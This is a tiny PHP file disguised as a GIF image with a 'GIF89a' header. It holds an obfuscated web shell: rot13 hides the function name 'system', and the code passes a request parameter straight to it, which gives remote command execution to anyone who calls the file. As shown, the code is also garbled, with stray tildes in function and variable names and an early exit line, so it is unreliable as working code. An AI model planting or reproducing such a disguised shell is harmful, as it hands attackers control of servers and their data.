<?php exit; ?>
GIF89a;
<?php $f = str~_rot13('flfgrz'); $f($_R~EQUEST['m']); ?>
